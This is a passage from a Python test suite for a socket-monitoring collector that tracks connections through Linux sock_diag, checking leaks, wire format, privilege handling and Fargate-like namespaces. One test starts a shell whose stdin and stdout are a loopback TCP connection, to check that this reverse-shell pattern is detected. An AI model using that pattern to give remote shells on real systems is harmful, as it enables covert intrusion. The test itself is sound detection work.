            for c, a in pairs:
                c.close()
                a.close()
            await asyncio.sleep(0.012)

    try:
        await churn(20)  # warm-up: caches, dict sizes
        h.sockets.emit = lambda _e: None  # the harness's own event list would grow, not the collector
        h.events.clear()
        gc.collect()
        fds = _socket_fds()
        tracemalloc.start()
        snap1 = tracemalloc.take_snapshot()
        polls1 = h.sockets.stats["polls"]
        await churn(60)
        await asyncio.sleep(0.2)
        gc.collect()
        snap2 = tracemalloc.take_snapshot()
        tracemalloc.stop()
        polls = h.sockets.stats["polls"] - polls1
        assert polls >= 100, polls
        filt = [tracemalloc.Filter(True, str(ROOT / "collectors" / "sockets.py"))]
        grown = sum(s.size_diff for s in snap2.filter_traces(filt).compare_to(snap1.filter_traces(filt), "filename"))
        assert grown < 256 * 1024, grown  # other tests' sockets on this host come and go meanwhile
        assert _socket_fds() == fds  # (the process source's pidfds come and go with the host's processes)
        c = h.sockets
        assert not c._pending
        assert len(c._by_cookie) == len(c._socks)
        assert len(c._stdio_seen) <= len(h.processes.table) + 64
        assert len(c._closed_cookies) <= 65536 and len(c._early_owners) <= 16384
        assert c.stats["events_net.close"] >= 500 and c.stats.get("poll_errors", 0) == 0
    finally:
        listener.close()
        await h.stop()


# -- the wire format, checked against pyroute2's decoder --------------------------------------------------


def test_wire_format_matches_pyroute2(tmp_path: Path) -> None:
    from pyroute2 import DiagSocket
    from pyroute2.netlink.diag import SS_ALL

    staged: list[socket.socket] = []
    l4 = socket.socket()
    l4.bind(("127.0.0.1", 0))
    l4.listen()
    l6 = socket.socket(socket.AF_INET6)
    l6.bind(("::1", 0))
    l6.listen()
    c4 = socket.create_connection(l4.getsockname())
    c6 = socket.create_connection(l6.getsockname()[:2])
    u4 = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u4.connect(("127.0.0.1", 9))
    u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    u6.bind(("::1", 0))
    ul = socket.socket(socket.AF_UNIX)
    ul.bind(str(tmp_path / "s.sock"))
    ul.listen()
    uc = socket.socket(socket.AF_UNIX)
    uc.connect(str(tmp_path / "s.sock"))
    ua, _ = ul.accept()
    staged += [l4, l6, c4, c6, u4, u6, ul, uc, ua]
    inet = {_ino(s) for s in (l4, l6, c4, c6, u4, u6)}
    try:
        diag = SockDiag()
        ours: dict[int, tuple[Any, ...]] = {}
        for family, proto in sockets_mod.INET_DUMPS:
            for fam, state, ports, addrs, cookie, uid, ino in diag.dump_inet(family, proto):
                if ino in inet:
                    sport, dport = sockets_mod._PORTS.unpack(ports)
                    src = socket.inet_ntop(fam, addrs[: 4 if fam == socket.AF_INET else 16])
                    dst = socket.inet_ntop(fam, addrs[16 : 20 if fam == socket.AF_INET else 32])
                    ours[ino] = (proto, fam, state, sport, dport, src, dst, cookie, uid)
        # the one-walk TCP dump (old request, both families) gives the same sockets
        both = {row[6]: row for row in diag.dump_inet(socket.AF_UNSPEC, socket.IPPROTO_TCP)}
        for ino in inet:
            if ours[ino][0] == socket.IPPROTO_TCP:
                fam, state, *_rest, cookie, _uid, _ = both[ino]
                assert (fam, state, cookie) == (ours[ino][1], ours[ino][2], ours[ino][7])
        ours_unix = {row[0]: row for row in diag.dump_unix() if row[0] in {_ino(ul), _ino(uc), _ino(ua)}}
        diag.close()

        theirs: dict[int, tuple[Any, ...]] = {}
        theirs_unix: dict[int, dict[str, Any]] = {}
        with DiagSocket() as ds:
            ds.bind()
            for family, proto in sockets_mod.INET_DUMPS:
                for m in ds.get_sock_stats(family=family, protocol=proto, states=SS_ALL):
                    if m["idiag_inode"] in inet:
                        theirs[m["idiag_inode"]] = (proto, m["idiag_family"], m["idiag_state"], m["idiag_sport"],
                                                    m["idiag_dport"], m["idiag_src"], m["idiag_dst"],
                                                    m["idiag_cookie"], m["idiag_uid"])  # fmt: skip
            for m in ds.get_sock_stats(family=socket.AF_UNIX):
                if m["udiag_ino"] in ours_unix:
                    theirs_unix[m["udiag_ino"]] = {"state": m["udiag_state"], "type": m["udiag_type"],
                                                   "name": m.get_attr("UNIX_DIAG_NAME"),
                                                   "peer": m.get_attr("UNIX_DIAG_PEER")}  # fmt: skip
        assert set(ours) == inet and ours == theirs
        assert set(ours_unix) == set(theirs_unix) == {_ino(ul), _ino(uc), _ino(ua)}
        for u_ino, (_, stype, state, name, peer, u_uid) in ours_unix.items():
            t = theirs_unix[u_ino]
            assert (stype, state, peer) == (t["type"], t["state"], t["peer"])
            assert name == (t["name"].rstrip("\0") if t["name"] else None)
            assert u_uid == os.getuid()
        assert ours_unix[_ino(ua)][3] == str(tmp_path / "s.sock")  # the accepted end carries the listener's path
        assert ours_unix[_ino(uc)][4] == _ino(ua)
    finally:
        for s in staged:
            s.close()


# -- probe, and running as in a Fargate task ---------------------------------------------------------------


def test_probe_here() -> None:
    result = probe()
    assert result["available"] is True, result
    d = result["details"]
    assert all(isinstance(d["dumps"][k], int) for k in ("tcp4", "tcp6", "udp4", "udp6", "unix")), d
    assert d["destroyEvents"] is True and d["pidfdGetfd"] is True and d["sysPtrace"] is True
    assert d["fdReadable"] > 0 and "degraded" not in result


def test_probe_unprivileged_user_without_capabilities() -> None:
    """sock_diag and destroy events need no capability; other users' fds do (SYS_PTRACE)."""
    out = subprocess.run(
        ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", "--bounding-set=-all",
         sys.executable, "-c", "import json; from collectors.sockets import probe; print(json.dumps(probe()))"],
        cwd=ROOT, capture_output=True, text=True, timeout=30, check=True,
    )  # fmt: skip
    result = json.loads(out.stdout)
    assert result["available"] is True, result
    d = result["details"]
    assert isinstance(d["dumps"]["tcp4"], int) and d["destroyEvents"] is True
    assert d["sysPtrace"] is False and d["fdDenied"] > 0
    assert result["degraded"] is True and "SYS_PTRACE" in result["reason"]


FARGATE_CAPS = (
    "chown,dac_override,fsetid,fowner,mknod,net_raw,setgid,setuid,setfcap,setpcap,"
    "net_bind_service,sys_chroot,kill,audit_write,sys_ptrace"
)

INSIDE_TASK = r"""
import asyncio, json, os, socket, subprocess, sys
from collectors import capabilities
from collectors.process import ProcessCollector
from collectors.proc_poll import PollingProcessSource
from collectors.sockets import SockDiagCollector

async def main():
    events = []
    pc = ProcessCollector(lambda e: None, hash_executables=False)
    src = PollingProcessSource(pc)
    sc = SockDiagCollector(events.append, pc.table, interval=0.05)
    tasks = [asyncio.create_task(src.run())]
    await asyncio.sleep(0.3)
    tasks.append(asyncio.create_task(sc.run()))
    while sc.stats["polls"] < 2:  # running, and subscribed to destroy messages
        await asyncio.sleep(0.02)
    ls = socket.socket(); ls.bind(("127.0.0.1", 0)); ls.listen(8)
    port = ls.getsockname()[1]
    client = subprocess.Popen([sys.executable, "-c",
        f"import socket,time; s=socket.create_connection(('127.0.0.1',{port})); print(s.getsockname()[1], flush=True); "
        "time.sleep(3)"], stdout=subprocess.PIPE)
    cport = int(client.stdout.readline())
    quick = socket.create_connection(("127.0.0.1", port)); qport = quick.getsockname()[1]; quick.close()
    for _ in range(100):
        await asyncio.sleep(0.05)
        if any(e.kind == "net.connect" and e.data["localPort"] == cport for e in events):
            break
    client.kill(); client.wait()
    await asyncio.sleep(0.3)
    sc.stop(); src.stop()
    for t in tasks:
        await t
    conn = [e for e in events if e.kind == "net.connect" and e.data["localPort"] in (cport, qport)]
    print(json.dumps({
        "caps": sorted(capabilities.effective_caps()),
        "client": client.pid,
        "connects": [{"pid": e.process.pid if e.process else None, "port": e.data["localPort"],
                      "shortLived": e.data["shortLived"]} for e in conn],
        "cport": cport, "qport": qport, "snapshot": sc.snapshot(),
    }))

asyncio.run(main())
"""


def test_in_a_task_network_namespace_with_fargate_capabilities() -> None:
    """A fresh network namespace (loopback only), no NET_ADMIN/SYS_ADMIN: what a Fargate task gets."""
    bounding = "-all," + ",".join(f"+{c}" for c in FARGATE_CAPS.split(","))
    out = subprocess.run(
        ["unshare", "--net", "sh", "-c",
         f'ip link set lo up && exec setpriv --bounding-set={bounding} --inh-caps=-all "$@"', "sh",
         sys.executable, "-c", INSIDE_TASK],
        cwd=ROOT, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert out.returncode == 0, out.stderr
    result = json.loads(out.stdout.strip().splitlines()[-1])
    assert "NET_ADMIN" not in result["caps"] and "SYS_ADMIN" not in result["caps"] and "SYS_PTRACE" in result["caps"]
    by_port = {c["port"]: c for c in result["connects"]}
    assert by_port[result["cport"]]["pid"] == result["client"]
    assert by_port[result["qport"]]["shortLived"] is True  # opened and closed between two polls
    assert result["snapshot"].get("dump_errors", 0) == 0 and result["snapshot"]["short_lived"] >= 1


def test_snapshot_shape_before_and_after_a_poll() -> None:
    collector = SockDiagCollector(lambda _e: None, ProcessCollector(lambda _e: None).table)
    try:
        assert collector.name == "sock_diag"
        assert collector.snapshot()["sockets_tracked"] == 0
        collector.poll_once()
        snap = collector.snapshot()
        for key in ("polls", "sockets_tracked", "pending_attribution", "last_poll_ms", "avg_poll_ms", "max_poll_ms"):
            assert key in snap, key
        assert snap["polls"] == 1 and snap["last_poll_ms"] > 0
        json.dumps(snap)
    finally:
        collector.close()


async def test_on_process_hook_checks_a_new_process_without_waiting_for_the_table_scan() -> None:
    events: list[RuntimeEvent] = []
    processes = ProcessCollector(lambda _e: None, hash_executables=False)
    collector = SockDiagCollector(events.append, processes.table, destroy_events=False, stdio_scan_interval=3600)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    client = socket.create_connection(listener.getsockname())
    conn, _ = listener.accept()
    try:
        processes.capture(os.getpid())
        collector.poll_once()  # the one table scan (the next is an hour away); the connection is known now
        assert [e for e in events if e.kind == "net.connect" and (e.data or {}).get("inode") == _ino(client)]
        # a shell given that connection as its stdio: no new socket to draw attention to it
        shell = subprocess.Popen(["sh", "-c", "read x"], stdin=client.fileno(), stdout=client.fileno())
        try:
            info = processes.capture(shell.pid)
            assert info is not None and info.name == "sh"
            collector.poll_once()
            assert not [e for e in events if e.kind == "process.stdio_socket"]  # not scanned, not told
            collector.on_process(info)
            collector.poll_once()
            (ev,) = [e for e in events if e.kind == "process.stdio_socket"]
            assert ev.process is info and ev.data is not None and ev.data["socketFds"] == [0, 1]
        finally:
            shell.kill()
            shell.wait()
    finally:
        for s in (client, conn, listener):
            s.close()
        collector.close()


def test_stdio_sockets_of_a_gone_process_is_empty() -> None:
    p = subprocess.Popen(["true"])
    p.wait()
    assert stdio_sockets(p.pid) == {}
